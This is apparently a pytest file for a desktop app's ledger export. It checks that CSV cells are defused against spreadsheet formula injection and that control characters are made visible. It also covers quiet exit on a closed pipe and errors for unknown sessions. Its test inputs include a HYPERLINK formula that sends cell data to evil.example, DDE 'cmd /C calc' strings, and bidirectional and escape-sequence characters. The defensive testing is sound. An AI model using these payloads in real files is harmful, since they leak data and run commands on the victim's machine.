"""The ledger export against an attacker's text and a reader that stops early."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from qoder_desktop.config.paths import AppPaths
from qoder_desktop.domain.models import ApprovalRequest, Backend, Decision
from qoder_desktop.store.database import Database
from qoder_desktop.store.ledger import Ledger
from qoder_desktop.store.ledger_export import export_ledger, ledger_export_main

HOSTILE = {
    "tool_name": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "session_id": "+cmd|' /C calc'!A0",
    "cwd": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "display_name": "\t=1+1",
    "description": "\r=1+1",
    "decision_reason": "nul\x00esc\x1b[31m red \u202eevil\u202c",
    "blocked_path": "\uff1dSUM(1,1)",
}


def _hostile_request() -> ApprovalRequest:
    return ApprovalRequest(
        session_id=HOSTILE["session_id"], session_name="=cmd()", backend=Backend.CLAUDE,
        tool_name=HOSTILE["tool_name"], title=HOSTILE["title"],
        display_name=HOSTILE["display_name"], description=HOSTILE["description"],
        decision_reason=HOSTILE["decision_reason"], blocked_path=HOSTILE["blocked_path"],
        cwd=HOSTILE["cwd"], tool_use_id="toolu_x",
        tool_input={"command": "=1+1", "note": "\x1b]0;title\x07 \u202e"})


def test_csv_cells_never_start_a_formula_and_show_control_characters(db: Database) -> None:
    """A spreadsheet opening the CSV sees text, never a formula, and sees the control
    characters instead of running or hiding them; JSON Lines stay byte-exact."""
    ledger = Ledger(db)
    request = _hostile_request()
    ledger.record_request(request)
    ledger.record_decision(request, Decision.deny("=no"), 5.0)
    out = io.StringIO()
    export_ledger(db, out, "csv")
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
        assert not any(char in cell for char in "\x00\x1b\x07\r\u202e\u202c"), cell
    assert row["tool_name"] == "'" + HOSTILE["tool_name"]
    assert row["session_id"] == "'" + HOSTILE["session_id"]
    assert row["cwd"] == "'" + HOSTILE["cwd"]
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["display_name"] == "'\t=1+1"
    assert row["description"] == "⟨CR⟩=1+1"
    assert row["decision_reason"] == ("nul⟨NUL⟩esc⟨ESC⟩[31m red "
                                      "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩evil"
                                      "⟨U+202C POP DIRECTIONAL FORMATTING⟩")
    assert row["blocked_path"] == "'\uff1dSUM(1,1)"
    assert row["message"] == "'=no"
    assert row["latency_ms"] == "5.0"
    # JSON cells stay JSON with the same value; their hidden characters are escapes.
    assert json.loads(row["original_input"]) == request.tool_input
    assert "\\u001b" in row["original_input"] and "\\u202e" in row["original_input"]

    lines = io.StringIO()
    export_ledger(db, lines, "jsonl")
    record = json.loads(lines.getvalue())
    for field, value in HOSTILE.items():
        assert record[field] == value
    assert record["original_input"] == request.tool_input
    assert lines.getvalue() == json.dumps(record, ensure_ascii=False) + "\n"  # unchanged
    assert "\u202e" in lines.getvalue()  # raw, as recorded (JSON escapes only controls)


def _export_process(*args: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [sys.executable, "-m", "qoder_desktop", "ledger", "export", *args],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=dict(os.environ))


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_reader_that_closes_the_pipe_early_ends_the_export_quietly(fmt: str) -> None:
    """`qoder-desktop ledger export | head -n 1`: the export stops without a word and
    exits 0, as other Unix tools do."""
    paths = AppPaths.default().ensure()
    with Database.open(paths.database) as db:
        ledger = Ledger(db)
        with db.transaction():
            for n in range(3000):  # far more than a pipe's buffer holds
                ledger.record_tool_event("s1", f"toolu_{n}", "Read",
                                         {"file_path": f"/work/{n}" + "x" * 100}, "PreToolUse")
    process = _export_process("--format", fmt)
    assert process.stdout is not None and process.stderr is not None
    first = process.stdout.readline()
    assert first  # the export had started writing
    process.stdout.close()  # what `head -n 1` does after its line
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=60) == 0, stderr
    assert stderr == ""


def test_an_unknown_session_is_named_and_exits_2(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """`--session` with an id the ledger does not know says so (exit 2) instead of
    exporting a bare header that looks like an empty session."""
    paths = AppPaths.default().ensure()
    with Database.open(paths.database) as db:
        Ledger(db).record_request(_hostile_request())
    assert ledger_export_main(["--session", "typo"]) == 2
    printed = capsys.readouterr()
    assert printed.out == ""
    assert "no session 'typo' in the ledger" in printed.err
    target = tmp_path / "out.csv"
    assert ledger_export_main(["--session", "typo", "--output", str(target)]) == 2
    assert not target.exists()
    assert ledger_export_main(["--session", HOSTILE["session_id"], "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out)["session_id"] == HOSTILE["session_id"]


def test_an_unknown_session_before_anything_was_recorded(
        capsys: pytest.CaptureFixture[str]) -> None:
    assert ledger_export_main(["--session", "s1"]) == 2
    assert "no session 's1' in the ledger" in capsys.readouterr().err
